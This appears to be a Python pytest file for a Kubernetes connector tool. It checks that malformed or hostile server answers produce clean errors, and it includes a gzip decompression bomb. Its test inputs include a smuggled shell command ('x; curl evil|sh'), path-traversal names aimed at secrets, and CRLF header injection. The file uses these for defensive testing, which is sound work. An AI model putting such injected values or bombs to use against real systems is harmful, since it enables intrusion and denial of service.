"""Servers that answer oddly: each time an error that says so, and never a crash."""

from __future__ import annotations

import gzip
import json
import tracemalloc
from collections.abc import Callable, Iterator, Mapping
from datetime import datetime, timezone
from types import MappingProxyType
from typing import Any

import pytest

from kubectl_connector.cli.manifests import removal
from kubectl_connector.cluster import certificate_request, objects, probe, token_request, vault
from kubectl_connector.cluster.caller import Caller, calling
from kubectl_connector.cluster.transport import AuthenticatedPool
from kubectl_connector.errors import ConnectorError
from kubectl_connector.model.connector import Made
from kubectl_connector.model.kubeconfig import Cluster, Impersonation
from kubectl_connector.model.secret import Credential
from kubectl_connector.model.service_account import ServiceAccount
from tests.apiserver import Answer, ApiServer
from tests.conftest import JANE_TOKEN

NOW = datetime(2026, 1, 31, 12, tzinfo=timezone.utc)
DEEP = b"[" * 200_000


@pytest.fixture
def server() -> Iterator[ApiServer]:
    with ApiServer() as running:
        yield running


def ask(
    server: ApiServer,
    status: int,
    body: object,
    step: Callable[[Caller], Any],
    headers: Mapping[str, str] = MappingProxyType({}),
) -> Any:
    """What a step makes of an answer."""
    if isinstance(body, dict):
        body = {**body, "metadata": {"uid": "uid-1", **body.get("metadata", {})}}
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    server.answer = Answer(status, data, headers=headers)
    cluster = Cluster(server.url, certificate_authority_data=server.ca_pem)
    with calling(cluster, Credential(token=JANE_TOKEN), Impersonation(), 5) as caller:
        return step(caller)


def request_token(caller: Caller) -> object:
    return token_request.request_token(caller, ServiceAccount("shop", "reader"), None)


def look(caller: Caller) -> object:
    return certificate_request.look(caller, "one", "uid-1")


def approve(caller: Caller) -> None:
    certificate_request.approve(caller, "one", "uid-1", NOW)


def lease(caller: Caller) -> object:
    return vault.lease(caller, "kubernetes", "reader")


@pytest.mark.parametrize("life", ["soon", None, 0, -5, 10**12, True, 1.5])
def test_a_token_without_a_life_is_no_answer(server: ApiServer, life: object) -> None:
    body = {"status": {"token": "secret"}, "spec": {"expirationSeconds": life}}
    with pytest.raises(ConnectorError, match="no token with a life") as caught:
        ask(server, 201, body, request_token)
    assert caught.value.exit_code == 5
    assert "secret" not in caught.value.message


@pytest.mark.parametrize(
    ("status", "body", "step"),
    [
        (200, {"status": {"certificate": "é"}}, look),
        (200, {"status": {"certificate": 7}}, look),
        (201, DEEP, request_token),
        (400, {"errors": 5}, lease),
    ],
    ids=["not ascii", "number", "deep", "errors"],
)
def test_an_odd_answer_is_told(
    server: ApiServer, status: int, body: object, step: Callable[[Caller], Any]
) -> None:
    with pytest.raises(ConnectorError):
        ask(server, status, body, step)


def test_what_is_no_list_is_an_empty_one(server: ApiServer) -> None:
    odd: dict[str, Any] = {"status": {"conditions": 5, "userInfo": {"username": "a", "groups": 5}}}
    assert ask(server, 200, odd, look) is None
    ask(server, 200, odd, approve)
    leased = {"warnings": 5, "lease_id": "x", "data": {"service_account_token": "t"}}
    assert ask(server, 200, leased, lease).id == "x"
    cluster = Cluster(server.url, certificate_authority_data=server.ca_pem)
    server.answer = Answer(200, json.dumps(odd).encode())
    pool = AuthenticatedPool(cluster, lambda: Credential(token=JANE_TOKEN))
    assert probe.probe(cluster, pool, 5).groups == ()
    pool.clear()


@pytest.mark.parametrize("name", ["x; curl evil|sh", "../secrets", "a\r\nX: y", "A", "", 5, None])
def test_a_certificate_request_has_a_name_that_a_command_can_hold(
    server: ApiServer, name: object
) -> None:
    with pytest.raises(ConnectorError, match="without a name") as caught:
        ask(server, 201, {"metadata": {"name": name}}, submit)
    assert "evil" not in caught.value.message


def submit(caller: Caller) -> object:
    return certificate_request.submit(caller, "pem", None, "kubectl-connector-abc-")


def test_a_name_stays_one_part_of_the_path(server: ApiServer) -> None:
    made = Made("RoleBinding", "kubectl-connector:shop:reader:a?b#c", "shop", "uid")
    ask(server, 200, {}, lambda caller: objects.remove(caller, made))
    ask(
        server,
        200,
        {"status": {}},
        lambda caller: certificate_request.look(caller, "a/../b?c", "uid-1"),
    )
    deleted, shown = server.requests
    assert deleted.target.endswith("/rolebindings/kubectl-connector:shop:reader:a%3Fb%23c")
    assert shown.target.endswith("/certificatesigningrequests/a%2F..%2Fb%3Fc")


@pytest.mark.parametrize(
    "document",
    [
        {"kind": "Pod", "name": "x"},
        {"kind": "Secret", "name": "../../kube-system/secrets/x", "namespace": "shop"},
        {"kind": "Secret", "name": "..", "namespace": "shop"},
        {"kind": "Secret", "name": "x", "namespace": "../kube-system"},
        {"kind": "ClusterRoleBinding", "name": "a\nb"},
        {"kind": "Secret"},
    ],
)
def test_what_was_not_made_by_us_is_not_read_as_such(document: dict[str, str]) -> None:
    with pytest.raises((ValueError, TypeError)):
        Made.from_document(document)


def test_a_command_holds_any_name_of_a_role() -> None:
    made = Made("RoleBinding", "kubectl-connector:shop:a:b?;c", "shop", "uid")
    assert Made.from_document(made.to_document()) == made
    assert removal([made]) == [f"kubectl delete rolebinding '{made.name}' -n shop"]


def test_a_long_message_is_cut(server: ApiServer) -> None:
    with pytest.raises(ConnectorError, match="make a token of shop/reader: AAA") as caught:
        ask(server, 403, {"message": "A" * 3_000_000}, request_token)
    assert len(caught.value.message) < 2000


def test_an_answer_is_read_up_to_a_limit_also_when_it_unpacks_to_more(server: ApiServer) -> None:
    bomb = gzip.compress(b'"' + b"A" * 200_000_000 + b'"', compresslevel=1)
    tracemalloc.start()
    try:
        with pytest.raises(ConnectorError, match="more than 8 MiB"):
            ask(server, 201, bomb, request_token, {"Content-Encoding": "gzip"})
        assert tracemalloc.get_traced_memory()[1] < 100_000_000
    finally:
        tracemalloc.stop()


def test_requests_share_a_connection(server: ApiServer) -> None:
    def twice(caller: Caller) -> None:
        for _ in range(2):
            certificate_request.look(caller, "one", "uid-1")

    ask(server, 200, {"status": {}}, twice)
    assert server.connections == 1
